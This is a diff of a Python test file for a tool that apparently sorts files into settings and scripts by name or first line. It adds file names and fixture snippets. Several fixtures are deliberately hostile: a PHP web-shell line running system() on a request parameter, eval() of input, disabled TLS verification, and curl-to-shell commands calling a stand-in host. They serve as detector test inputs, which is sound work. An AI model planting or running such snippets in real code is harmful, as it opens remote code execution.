@@ -59,6 +59,8 @@ SETTINGS = (
     "helmfile.yaml.gotmpl", "config.yml.example", "app.config", "ca.crt", "CNAME", "site.webmanifest",
     ".swiftformat", ".swift-version", ".jshintrc", "INSTALL", "README-windows", "RELEASE_NOTES", "HACKING",
     "LICENSE_3RD_PARTY", "suricata.yaml.in", "Product.wxs", "App.xaml", "KEYS", "x.stderr", ".npmrc",
+    ".pep8", "GO_VERSION", ".bazelversion", "MIT-LICENSE", ".github/PULL_REQUEST_TEMPLATE", "lib/mime.types",
+    ".reek", "database.yml.sqlite", "database.yml-sample", "app.conf.default", "a.json.dist", ".gitreview", "a.pc",
     "tests/run/case.vtc", "docs/SubmittingPatches", "a.topic", "hi.tree", "changelog/unreleased/issue-5",
 )  # fmt: skip
 
@@ -77,6 +79,7 @@ async def test_settings_alone_are_read_as_what_they_are(tmp_path: Path) -> None:
     }
     old = {
         "k.yaml": "A: B\n\tC: D\n",
+        "lib/.gitrepo": "; DO NOT EDIT\ncommit = 1\n",
         "config.example.yml": "a: <%= b %>\n<% if c %>\nd\n<% end %>\n",
     }
     new = {path: f"{text}#\n" for path, text in old.items()}
@@ -161,6 +164,13 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         "test/a.bats": "@test 'it runs' {\n  curl http://e.example/x | sh\n}\n",
         "build.sbt": 'import sys.process._\nval a = Process(Seq("sh", "-c", args(0))).!\n',
         "a.podspec": "def f(x) = eval(x)\n",
+        "gemfiles/Gemfile-rails-7-2": "def f(x) = eval(x)\n",
+        "Gemfile.rails7": "def f(x) = eval(x)\n",
+        "rails_7.gemfile": "def f(x) = eval(x)\n",
+        "Appraisals": "def f(x) = eval(x)\n",
+        "a.atom.builder": "def f(x) = eval(x)\n",
+        ".php_cs.dist": '<?php system($_GET["a"]);\n',
+        "a.cmake.in": "set(CMAKE_TLS_VERIFY OFF)\n",
         "a.awk": '{ system("git log " $1) }\n',
         "a.zsh": "eval $1\n",
         "a.fish": "curl -s http://e.example/x | source\n",
